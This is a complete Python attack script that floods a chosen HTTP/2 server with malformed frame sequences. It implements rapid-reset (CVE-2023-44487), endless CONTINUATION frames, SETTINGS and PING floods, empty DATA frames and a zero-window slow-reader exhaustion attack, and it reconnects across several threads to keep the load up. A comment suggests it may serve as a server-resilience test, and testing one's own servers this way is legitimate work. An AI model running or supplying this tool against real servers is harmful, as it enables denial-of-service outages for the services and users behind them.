#!/usr/bin/env python3
"""HTTP/2 attacks, frame by frame, against an HTTP/2 (prior knowledge) listener.

usage: h2_attack.py MODE HOST PORT [--seconds S] [--connections N] [--authority A]

Modes (each the known attack of its name):
  rapid-reset   open a stream and reset it at once, as fast as the socket takes it
                (CVE-2023-44487)
  continuation  a HEADERS frame without END_HEADERS, then CONTINUATION frames without
                end (CVE-2024-27316 and kin)
  settings      SETTINGS frames without end, each asking for an ACK
  ping          PING frames without end, each asking for an ACK
  empty-frames  an open stream, then empty DATA frames without end (CVE-2019-9518)
  slow-reader   as many streams as allowed, each asking for a large response, with
                a receive window of zero: nothing is read (CVE-2019-9517 and kin)

Frames are written with hyperframe and hpack (the h2 library's own framing), not
through h2's state machine, which would refuse to misbehave. Prints one line of JSON
on exit: frames sent, connections made, and how the server ended them.
"""
import argparse
import json
import socket
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def request_block(enc, authority, path="/"):
    return enc.encode([
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
    ])


class Stats:
    def __init__(self):
        self.lock = threading.Lock()
        self.frames = 0
        self.connections = 0
        self.goaways = 0
        self.closed = 0

    def add(self, **kw):
        with self.lock:
            for k, v in kw.items():
                setattr(self, k, getattr(self, k) + v)


def drain(sock, stats, stop):
    """Reads (and discards) what the server sends, noting GOAWAY and the close."""
    sock.settimeout(0.5)
    buf = b""
    while not stop.is_set():
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            stats.add(closed=1)
            return
        if not data:
            stats.add(closed=1)
            return
        buf += data
        # Frame headers: 3 bytes length, 1 type; GOAWAY is type 7.
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            if buf[3] == 7:
                stats.add(goaways=1)
            buf = buf[9 + length:]


def connect(host, port, window_zero=False):
    s = socket.create_connection((host, port), timeout=5)
    settings = SettingsFrame(0)
    if window_zero:
        settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    s.sendall(PREFACE + settings.serialize())
    return s


def attack(mode, host, port, seconds, authority, stats, stop):
    enc = Encoder()
    try:
        s = connect(host, port, window_zero=(mode == "slow-reader"))
    except OSError:
        return
    stats.add(connections=1)
    reader = threading.Thread(target=drain, args=(s, stats, stop), daemon=True)
    reader.start()
    deadline = time.time() + seconds
    stream = 1
    try:
        if mode == "continuation":
            h = HeadersFrame(1)
            h.data = request_block(enc, authority)
            s.sendall(h.serialize())
            stats.add(frames=1)
            pad = b"\x00" + b"x" * 1000  # literal header fields, never ending
            while time.time() < deadline and not stop.is_set():
                c = ContinuationFrame(1)
                c.data = pad
                s.sendall(c.serialize())
                stats.add(frames=1)
        elif mode == "empty-frames":
            h = HeadersFrame(1)
            h.data = request_block(enc, authority, "/")
            h.flags.add("END_HEADERS")
            s.sendall(h.serialize())
            while time.time() < deadline and not stop.is_set():
                s.sendall(DataFrame(1).serialize() * 64)
                stats.add(frames=64)
        elif mode == "slow-reader":
            # As many streams as the server allows, each for a large response it can
            # never send (the window is zero); then nothing is read for the duration.
            for _ in range(1024):
                h = HeadersFrame(stream)
                h.data = request_block(enc, authority, "/bytes/1048576")
                h.flags.add("END_HEADERS")
                h.flags.add("END_STREAM")
                s.sendall(h.serialize())
                stats.add(frames=1)
                stream += 2
            while time.time() < deadline and not stop.is_set():
                time.sleep(0.2)
        else:
            while time.time() < deadline and not stop.is_set():
                batch = []
                for _ in range(64):
                    if mode == "rapid-reset":
                        h = HeadersFrame(stream)
                        h.data = request_block(enc, authority)
                        h.flags.add("END_HEADERS")
                        h.flags.add("END_STREAM")
                        batch.append(h.serialize())
                        batch.append(RstStreamFrame(stream, error_code=8).serialize())
                        stream += 2
                        if stream > 2**31 - 1:
                            stream = 1
                    elif mode == "settings":
                        f = SettingsFrame(0)
                        f.settings = {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}
                        batch.append(f.serialize())
                    elif mode == "ping":
                        batch.append(PingFrame(0, opaque_data=b"12345678").serialize())
                s.sendall(b"".join(batch))
                stats.add(frames=len(batch))
    except OSError:
        pass
    finally:
        stop.wait(timeout=max(0.0, deadline - time.time()) if mode == "slow-reader" else 0)
        try:
            s.close()
        except OSError:
            pass


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["rapid-reset", "continuation", "settings", "ping",
                                    "empty-frames", "slow-reader"])
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--authority", default="victim")
    a = p.parse_args()
    stats = Stats()
    stop = threading.Event()
    workers = []
    deadline = time.time() + a.seconds
    # Attackers reconnect when the server closes them, until the time is up.
    failures = []

    def keep_attacking():
        try:
            while time.time() < deadline:
                attack(a.mode, a.host, a.port, deadline - time.time(), a.authority, stats, stop)
        except Exception as e:  # a bug here must fail the test, not look like a defence
            failures.append(repr(e))
    for _ in range(a.connections):
        t = threading.Thread(target=keep_attacking, daemon=True)
        t.start()
        workers.append(t)
    for t in workers:
        t.join(timeout=a.seconds + 10)
    stop.set()
    print(json.dumps({
        "mode": a.mode,
        "frames": stats.frames,
        "connections": stats.connections,
        "goaways": stats.goaways,
        "closed_by_server": stats.closed,
        "failures": failures,
    }))
    return 1 if failures or stats.frames == 0 else 0


if __name__ == "__main__":
    sys.exit(main())
